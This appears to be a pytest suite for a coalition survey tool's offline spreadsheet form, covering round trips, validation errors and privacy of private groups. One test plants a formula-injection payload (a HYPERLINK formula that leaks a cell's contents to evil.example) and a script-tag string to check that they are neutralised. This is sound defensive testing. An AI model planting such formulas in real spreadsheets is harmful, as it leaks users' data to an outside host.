"""The offline survey form (issue 16, item 3): form -> filled spreadsheet -> answer ->
review -> map. The workbooks are read back and filled in with openpyxl, a reader of its
own, so a test sees what a spreadsheet program would, not what our reader believes."""

from __future__ import annotations

from pathlib import Path
from typing import Any

import pytest
from openpyxl import Workbook, load_workbook

from coalition.domain.errors import CoalitionError, InvalidInput, NotFound
from coalition.maps.transfer import load_demo
from coalition.survey import review
from coalition.survey.answers import ANSWER_FIELDS, MAX_PARTNERS, form_for
from coalition.survey.links import Link, start_round
from coalition.survey.sheet import PARTNER_COLUMNS, answer_from_file, read_answer, write_form
from graph.store import Store

ORG = "riverside_tenants_union"  # public, eight visible partners
NEW_PARTNER = "night_shift_collective"  # on the list, not a partner of ORG yet
PRIVATE = "kitchen_table_mutual_aid"


def _start(store: Store, orgs: list[str] | None = None) -> str:
    """A round ``r1`` for ``orgs`` (ORG by default); the token of the first link."""
    links = start_round(store, "r1", orgs=orgs or [ORG])
    return links[0]["url"].split("survey=")[1]


def _values(sheet: Any) -> list[tuple[Any, ...]]:
    return [tuple(row) for row in sheet.iter_rows(values_only=True)]


def _about_row(workbook: Any, field: str) -> int:
    return next(n for n, row in enumerate(_values(workbook["About us"]), 1) if row[0] == field)


def _add_partner(path: Path, row: list[Any]) -> None:
    workbook = load_workbook(path)
    workbook["Partners"].append(row)
    workbook.save(path)


def test_offline_round_trip_enters_the_map_after_review(store: Store, tmp_path: Path) -> None:
    load_demo(store)
    token = _start(store)
    form = form_for(store, Link("r1", ORG))
    path = write_form(store, "r1", ORG, tmp_path / "form.xlsx")

    workbook = load_workbook(path)
    assert workbook.sheetnames == ["Read me", "About us", "Partners", "Groups"]
    about = {row[0]: row[2] for row in _values(workbook["About us"])[1:]}
    assert list(about) == list(ANSWER_FIELDS)
    assert about["name"] == "Riverside Tenants Union"
    assert about["languages"] == "; ".join(form["record"]["languages"])
    partners = _values(workbook["Partners"])
    assert partners[0] == PARTNER_COLUMNS
    assert [(r[0], r[4], r[5]) for r in partners[1:]] == [
        (p["org"], p["kind"], p["strength"]) for p in form["partners"]
    ]
    groups = [row[0] for row in _values(workbook["Groups"])[1:] if row[0]]
    assert groups == [c["id"] for c in form["choices"]]
    assert NEW_PARTNER in groups and PRIVATE not in groups

    workbook["About us"].cell(_about_row(workbook, "region"), 3, "riverside and old town")
    workbook["Partners"].append([NEW_PARTNER, "", "", "", "joint_campaign", 4, "2024-03-01", "coalition"])
    workbook["Partners"].append(["", "", "Night Shelter Cooperative", "housing", "referral", 2, None, None])
    workbook.save(path)

    assert answer_from_file(store, token, path) == Link("r1", ORG)
    written = review.accept(store, "r1", org=ORG, reviewer="editor")
    assert (written["answers"], written["organizations"], written["ties"], written["new_groups"]) == (1, 1, 2, 1)

    assert store.get_organization(ORG)["region"] == "riverside and old town"
    tie = store.get_tie(ORG, NEW_PARTNER, "joint_campaign")
    assert (tie["strength"], tie["since"], tie["visibility"]) == (4, "2024-03-01", "coalition")
    actors = {e["key"]: e["actor"] for e in store.audit(kind="tie")}
    assert actors[f"{ORG}|{NEW_PARTNER}|joint_campaign"] == f"survey:r1:{ORG}"
    new_group = next(o for o in store.snapshot()["organizations"] if o["name"] == "Night Shelter Cooperative")
    assert new_group["visibility"] == "private" and store.get_tie(ORG, new_group["id"], "referral")


def test_a_formula_in_the_file_is_kept_as_text_and_hostile_text_is_cleaned(demo_store: Store, tmp_path: Path) -> None:
    token = _start(demo_store)
    path = write_form(demo_store, "r1", ORG, tmp_path / "form.xlsx")
    formula = '=HYPERLINK("http://evil.example/?leak="&A1,"click me")'
    workbook = load_workbook(path)
    workbook["About us"].cell(_about_row(workbook, "region"), 3, formula)  # openpyxl stores it as a formula
    workbook["About us"].cell(_about_row(workbook, "access"), 3, "<script>alert(1)</script>")
    workbook["Partners"].append(["", "", "   @SUM(1+1)\t ", "housing", " Referral ", "2", None, ""])
    workbook.save(path)
    assert load_workbook(path)["About us"].cell(_about_row(workbook, "region"), 3).data_type == "f"

    answer_from_file(demo_store, token, path)

    stored = demo_store.side_records("answer", "r1")[0]["body"]["answer"]
    assert stored["record"]["region"] == formula
    assert stored["record"]["access"] == "<script>alert(1)</script>"
    assert stored["partners"][-1] == {
        "org": "", "new_name": "@SUM(1+1)", "new_movement": "housing", "kind": "referral", "strength": 2,
        "since": None, "visibility": "coalition",
    }  # fmt: skip

    again = load_workbook(write_form(demo_store, "r1", ORG, tmp_path / "again.xlsx"))  # pre-filled from the answer
    cells = [cell for sheet in again for row in sheet.iter_rows() for cell in row if cell.value is not None]
    assert all(cell.data_type != "f" for cell in cells)
    texts = {cell.value for cell in cells}
    assert "'" + formula in texts and "'@SUM(1+1)" in texts
    assert read_answer(tmp_path / "again.xlsx")["record"]["region"] == formula


BAD_VALUES = [
    ("Partners", [NEW_PARTNER, "", "", "", "coalition", 9, None, None], "sheet Partners, row 10, field strength"),
    ("Partners", [NEW_PARTNER, "", "", "", "friends", 3, None, None], "sheet Partners, row 10, field kind"),
    ("Partners", ["nobody", "", "", "", "coalition", 3, None, None], "sheet Partners, row 10, field partner id"),
    ("Partners", [PRIVATE, "", "", "", "coalition", 3, None, None], "sheet Partners, row 10, field partner id"),
    ("Partners", ["", "", "New Group", "no_such", "coalition", 3, None, None], "row 10, field new group movement"),
    ("Partners", [NEW_PARTNER, "", "", "", "coalition", 3, "last spring", None], "row 10, field since"),
    ("Partners", ["", "Some Group", "", "", "coalition", 3, None, None], "row 10, field partner name"),
    ("Partners", ["", "", "x" * 201, "housing", "coalition", 3, None, None], "row 10, field new group name"),
    ("About us", ("kind", "club"), "sheet About us, row 3, field kind"),
    ("About us", ("access", "x" * 5001), "sheet About us, row 9, field access"),
    ("About us", ("contact", "me@example.org"), "sheet About us, row 13: 'contact' is not a question"),
]


@pytest.mark.parametrize(("sheet", "change", "where"), BAD_VALUES)
def test_a_bad_value_is_named_by_sheet_row_and_field_and_stores_nothing(
    demo_store: Store, tmp_path: Path, sheet: str, change: Any, where: str
) -> None:
    token = _start(demo_store)
    path = write_form(demo_store, "r1", ORG, tmp_path / "form.xlsx")
    workbook = load_workbook(path)
    if sheet == "Partners":
        workbook[sheet].append(change)
    elif change[0] in ANSWER_FIELDS:
        workbook[sheet].cell(_about_row(workbook, change[0]), 3, change[1])
    else:
        workbook[sheet].append([change[0], "", change[1]])
    workbook.save(path)

    with pytest.raises(CoalitionError) as caught:
        answer_from_file(demo_store, token, path)
    message = str(caught.value)
    assert message.startswith("form.xlsx, ") and where in message and "\n" not in message
    assert demo_store.side_records("answer") == []


def test_files_that_are_not_the_form_are_refused_in_one_line(demo_store: Store, tmp_path: Path) -> None:
    token = _start(demo_store)
    not_xlsx = tmp_path / "answer.xlsx"
    not_xlsx.write_text("name,kind\nus,union\n")
    other = Workbook()
    other.active.title = "About us"
    other.save(tmp_path / "no_partners.xlsx")
    for path, words in [(not_xlsx, "answer.xlsx: not a readable .xlsx workbook"),
                        (tmp_path / "no_partners.xlsx", "no_partners.xlsx: no sheet named Partners")]:  # fmt: skip
        with pytest.raises(InvalidInput, match=words):
            answer_from_file(demo_store, token, path)
    assert demo_store.side_records("answer") == []


def test_a_form_answered_with_another_groups_link_is_refused(demo_store: Store, tmp_path: Path) -> None:
    links = start_round(demo_store, "r1", orgs=[ORG, NEW_PARTNER])
    other_token = next(link["url"] for link in links if link["org"] == NEW_PARTNER).split("survey=")[1]
    path = write_form(demo_store, "r1", ORG, tmp_path / "form.xlsx")
    with pytest.raises(CoalitionError, match=f"form of '{ORG}', but this link is for '{NEW_PARTNER}'"):
        answer_from_file(demo_store, other_token, path)
    assert demo_store.side_records("answer") == []


def test_no_form_for_a_round_never_started_or_a_group_it_sent_no_link(demo_store: Store, tmp_path: Path) -> None:
    with pytest.raises(NotFound, match="no survey round 'r1'"):
        write_form(demo_store, "r1", ORG, tmp_path / "form.xlsx")
    _start(demo_store)
    with pytest.raises(NotFound, match=f"no open link for '{NEW_PARTNER}'"):
        write_form(demo_store, "r1", NEW_PARTNER, tmp_path / "form.xlsx")
    assert not (tmp_path / "form.xlsx").exists()


def test_a_written_form_never_holds_a_private_group_or_any_contact(demo_store: Store, tmp_path: Path) -> None:
    organizations = demo_store.snapshot()["organizations"]
    private = [o for o in organizations if o["visibility"] == "private"]
    secrets = [o["name"] for o in private] + [o["id"] for o in private] + [o["contact"] for o in organizations]
    assert private and all(secrets)
    start_round(demo_store, "r1")
    for org in (o["id"] for o in organizations if o["visibility"] != "private"):
        workbook = load_workbook(write_form(demo_store, "r1", org, tmp_path / f"{org}.xlsx"))
        cells = [str(v) for sheet in workbook for row in sheet.iter_rows(values_only=True) for v in row if v]
        cells += [str(workbook.properties.title), str(workbook.properties.description)]
        leaked = [s for s in secrets if any(s in cell for cell in cells)]
        assert leaked == [], f"the form of {org} holds {leaked}"
    found = load_workbook(tmp_path / f"{ORG}.xlsx")
    assert any(
        "Riverside Tenants Union" in str(v) for row in found["About us"].iter_rows(values_only=True) for v in row
    )


def test_more_partners_than_a_form_takes_are_refused_at_the_first_row_too_many(
    demo_store: Store, tmp_path: Path
) -> None:
    _start(demo_store)
    path = write_form(demo_store, "r1", ORG, tmp_path / "form.xlsx")
    workbook = load_workbook(path)
    for number in range(MAX_PARTNERS):
        workbook["Partners"].append(["", "", f"Group {number}", "housing"])
    workbook.save(path)
    with pytest.raises(InvalidInput, match=rf"sheet Partners, row {MAX_PARTNERS + 2}: a form takes at most"):
        read_answer(path)
